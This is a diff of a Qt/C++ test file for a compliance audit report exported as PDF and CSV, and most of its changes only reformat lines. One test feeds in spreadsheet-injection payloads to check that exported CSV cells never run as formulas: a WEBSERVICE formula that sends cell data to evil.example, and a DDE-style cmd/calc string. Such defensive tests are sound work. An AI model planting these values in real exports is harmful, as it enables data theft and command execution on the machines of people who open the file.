@@ -1,8 +1,8 @@
 // The audit report of a search: counts, template versions with approvals, findings, as PDF
 // and CSV.
 #include "compliance/auditreport.h"
-#include "render/htmlpdf.h"
 #include "compliancefixture.h"
+#include "render/htmlpdf.h"
 
 #include <QAbstractTextDocumentLayout>
 #include <QPdfDocument>
@@ -59,17 +59,20 @@ QStringList csvCells(const QString &text)
 void TestAuditReport::reportCountsTemplatesAndFindingsOfASearch()
 {
     ComplianceFixture f;
-    const QJsonObject v2{{QStringLiteral("template"), QJsonObject{{QStringLiteral("id"), QStringLiteral("TPL-OK")}, {QStringLiteral("version"), QStringLiteral("2")}}},
+    const QJsonObject v2{{QStringLiteral("template"), QJsonObject{{QStringLiteral("id"), QStringLiteral("TPL-OK")},
+                                                                  {QStringLiteral("version"), QStringLiteral("2")}}},
                          {QStringLiteral("campaign"), QStringLiteral("FEES-2026")}};
     f.add(QStringLiteral("C-1"), QStringLiteral("2026-02-01T00:00:00Z"), v2);
-    f.add(QStringLiteral("C-2"), QStringLiteral("2026-02-01T00:00:00Z"), QJsonObject{{QStringLiteral("campaign"), QStringLiteral("FEES-2026")}});
+    f.add(QStringLiteral("C-2"), QStringLiteral("2026-02-01T00:00:00Z"),
+          QJsonObject{{QStringLiteral("campaign"), QStringLiteral("FEES-2026")}});
     f.add(QStringLiteral("C-3"), QStringLiteral("2026-02-01T00:00:00Z"));
     f.event(QStringLiteral("C-2"), "delivered", "2026-02-01T01:00:00Z");
     f.import();
     compliance::AuditReport report = compliance::AuditReport::build(f.writer, QStringLiteral("campaign:FEES-2026"));
     QVERIFY2(report.error.isEmpty(), qPrintable(report.error));
     QCOMPARE(report.total, 2);
-    QCOMPARE(report.byStatus, (QList<QPair<QString, qint64>>{{QStringLiteral("delivered"), 1}, {QStringLiteral("none"), 1}}));
+    QCOMPARE(report.byStatus,
+             (QList<QPair<QString, qint64>>{{QStringLiteral("delivered"), 1}, {QStringLiteral("none"), 1}}));
     QCOMPARE(report.templates.size(), 2);
     QCOMPARE(report.templates.at(0).templateId, QStringLiteral("TPL-ANY"));
     QCOMPARE(report.templates.at(0).approvals, QStringList{QStringLiteral("legal by c on 2000-01-01: approved")});
@@ -99,11 +102,13 @@ void TestAuditReport::csvCellsFromHostileValuesAreNeverFormulas()
 {
     // A communication id and a template id are free text in a drop; a search may start with
     // "-" (negation). A spreadsheet opening the CSV must show them, never run them.
-    const QString link = QStringLiteral("=WEBSERVICE(\"evil.example?q=\"&A1)"); // no "/": the id names a file in the drop
+    const QString link =
+        QStringLiteral("=WEBSERVICE(\"evil.example?q=\"&A1)"); // no "/": the id names a file in the drop
     const QString sum = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
     ComplianceFixture f;
     f.add(link, QStringLiteral("2026-02-01T00:00:00Z"),
-          QJsonObject{{QStringLiteral("template"), QJsonObject{{QStringLiteral("id"), sum}, {QStringLiteral("version"), QStringLiteral("1")}}}});
+          QJsonObject{{QStringLiteral("template"),
+                       QJsonObject{{QStringLiteral("id"), sum}, {QStringLiteral("version"), QStringLiteral("1")}}}});
     f.import();
     const compliance::AuditReport report = compliance::AuditReport::build(f.writer, QStringLiteral("-status:bounced"));
     QVERIFY2(report.error.isEmpty(), qPrintable(report.error));
@@ -123,9 +128,8 @@ void TestAuditReport::tablesFillThePrintableWidth()
 {
     ComplianceFixture f;
     f.add(QStringLiteral("C-1"), QStringLiteral("2026-02-01T00:00:00Z"),
-          QJsonObject{{QStringLiteral("template"),
-                       QJsonObject{{QStringLiteral("id"), QStringLiteral("TPL-OK")},
-                                   {QStringLiteral("version"), QStringLiteral("2")}}}});
+          QJsonObject{{QStringLiteral("template"), QJsonObject{{QStringLiteral("id"), QStringLiteral("TPL-OK")},
+                                                               {QStringLiteral("version"), QStringLiteral("2")}}}});
     f.add(QStringLiteral("C-2"), QStringLiteral("2026-02-01T00:00:00Z"));
     f.import();
     const compliance::AuditReport report = compliance::AuditReport::build(f.writer, QString());
@@ -140,9 +144,8 @@ void TestAuditReport::tablesFillThePrintableWidth()
             continue;
         ++tables;
         const qreal width = doc.documentLayout()->frameBoundingRect(frame).width();
-        QVERIFY2(
-            width >= 0.9 * printable && width <= printable + 1,
-            qPrintable(QStringLiteral("table %1: %2 of %3").arg(tables).arg(width).arg(printable)));
+        QVERIFY2(width >= 0.9 * printable && width <= printable + 1,
+                 qPrintable(QStringLiteral("table %1: %2 of %3").arg(tables).arg(width).arg(printable)));
     }
     QCOMPARE(tables, 4); // status, channel, template versions, findings
 
@@ -153,9 +156,7 @@ void TestAuditReport::tablesFillThePrintableWidth()
     QCOMPARE(pdf.load(dir.filePath(QStringLiteral("report.pdf"))), QPdfDocument::Error::None);
     QCOMPARE(pdf.pageCount(), doc.pageCount());
     QCOMPARE(qRound(pdf.pagePointSize(0).width()), 595);
-    QVERIFY(pdf.getAllText(pdf.pageCount() - 1)
-                .text()
-                .contains(QString::number(pdf.pageCount()))); // its number
+    QVERIFY(pdf.getAllText(pdf.pageCount() - 1).text().contains(QString::number(pdf.pageCount()))); // its number
 }
 
 QTEST_MAIN(TestAuditReport)
